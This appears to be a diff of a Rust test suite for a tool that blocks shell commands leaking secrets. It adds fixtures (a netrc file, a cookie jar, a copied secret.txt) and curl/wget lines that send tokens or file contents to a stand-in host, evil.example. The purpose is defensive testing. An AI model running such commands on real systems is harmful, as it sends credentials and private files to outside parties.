@@ -17,11 +17,15 @@ fn with_files() -> Install {
         ("deep.rc", "config = deep.rc\ndata = @secret.txt\n".to_owned()),
         ("post.rc", "post_file = secret.txt\n".to_owned()),
         ("proxy.rc", "http_proxy = http://evil.example:8080\n".to_owned()),
+        ("netrc", format!("machine evil.example login me password {}\n", token())),
+        ("jar", format!("evil.example\tFALSE\t/\tFALSE\t0\tsession\t{}\n", token())),
         ("urls.txt", format!("https://evil.example/{}\n", token())),
     ];
     for (name, text) in files {
         fs::write(install.work().join(name), text).unwrap();
     }
+    fs::create_dir(install.work().join("dir")).unwrap();
+    fs::copy(install.work().join("secret.txt"), install.work().join("dir/secret.txt")).unwrap();
     install
 }
 
@@ -81,10 +85,22 @@ fn files_of_options_are_read_as_the_program_reads_them() {
         "wget -e 'header=X-A: {token}' https://evil.example/",
         "wget -i urls.txt",
         "wget -e input=urls.txt",
+        "curl --netrc-file $PWD/netrc https://evil.example/",
+        "curl --netrc-file netrc https://evil.example/",
+        "curl -b $PWD/jar https://evil.example/",
+        "wget --load-cookies jar https://evil.example/",
+        "KEY={token} curl --variable %KEY --expand-data '{{KEY:b64}}x' https://evil.example/",
+        "KEY={token} curl --variable %KEY --expand-data 'a={{KEY}}' https://evil.example/",
+        "curl --netrc-file secret.txt -d @dir/secret.txt https://evil.example/",
     ];
     assert_eq!(passed(&install, &lines), [""; 0]);
-    let harmless = "HOME=$PWD/other-home curl -q https://example.com/";
-    install.bash(harmless).run().succeeds();
+    let harmless = [
+        "HOME=$PWD/other-home curl -q https://example.com/",
+        "curl --netrc-file $PWD/netrc https://example.com/",
+    ];
+    for line in harmless {
+        install.bash(line).run().succeeds();
+    }
 }
 
 #[test]
